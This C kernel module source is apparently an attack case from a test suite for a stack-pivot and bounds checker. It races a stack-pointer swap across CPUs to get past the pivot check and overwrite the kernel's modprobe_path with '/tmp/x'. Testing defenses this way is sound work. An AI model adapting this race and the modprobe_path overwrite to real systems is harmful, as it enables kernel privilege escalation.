// SPDX-License-Identifier: GPL-2.0
/*
 * atk_pivot_race: mov g_sp(%rip), %rsp while a work item on another CPU
 * flips g_sp between this task's own %rsp and 8 bytes past modprobe_path
 * (target=).  A pivot check that reads g_sp and lets the instruction read
 * it again can approve the good value while %rsp gets the other one; a
 * store at -8(%rsp), which bounds.c leaves unchecked (the frame), then
 * writes "/tmp/x" over modprobe_path.  %rsp is put back after each try.
 * The flipper goes on until the attack's loop is over (or the module is
 * unloaded, if the attack is stopped), so that the two overlap however
 * the host schedules the guest's CPUs.
 */
#include <linux/fs.h>
#include <linux/workqueue.h>
#define ATTACK_CLEANUP
#include "attack.h"

#define TRIES	(1UL << 22)
/* the flipper runs until the attack is over, at most this long */
#define FLIPS	(1UL << 26)

static unsigned long g_sp, g_good, g_evil;
static int g_started, g_stop;

static void pivot_flip(struct work_struct *w)
{
	unsigned long i;

	WRITE_ONCE(g_started, 1);
	while (!READ_ONCE(g_good) && !READ_ONCE(g_stop))
		cpu_relax();
	for (i = 0; i < FLIPS && !READ_ONCE(g_stop); i++) {
		WRITE_ONCE(g_sp, g_evil);
		WRITE_ONCE(g_sp, g_good);
	}
}

static DECLARE_WORK(flip_work, pivot_flip);

static int attack(struct file *f)
{
	unsigned long evil = 0x782f706d742fUL;	/* "/tmp/x" */
	unsigned long n = TRIES;

	g_evil = target + 8;
	queue_work(system_unbound_wq, &flip_work);
	while (!READ_ONCE(g_started))
		cpu_relax();
	asm volatile("mov %%rsp, %%rdx\n\t"
		     "mov %%rsp, %[sp]\n\t"
		     "mov %%rsp, %[good]\n\t"
		     "1: mov %[sp], %%rsp\n\t"
		     "mov %%rbx, -8(%%rsp)\n\t"
		     "mov %%rdx, %%rsp\n\t"
		     "dec %%rcx\n\t"
		     "jnz 1b"
		     : [good] "=m"(g_good), [sp] "+m"(g_sp), "+c"(n)
		     : "b"(evil) : "rdx", "memory", "cc");
	WRITE_ONCE(g_stop, 1);
	return 0;
}

static void attack_cleanup(void)
{
	WRITE_ONCE(g_stop, 1);
	cancel_work_sync(&flip_work);
}
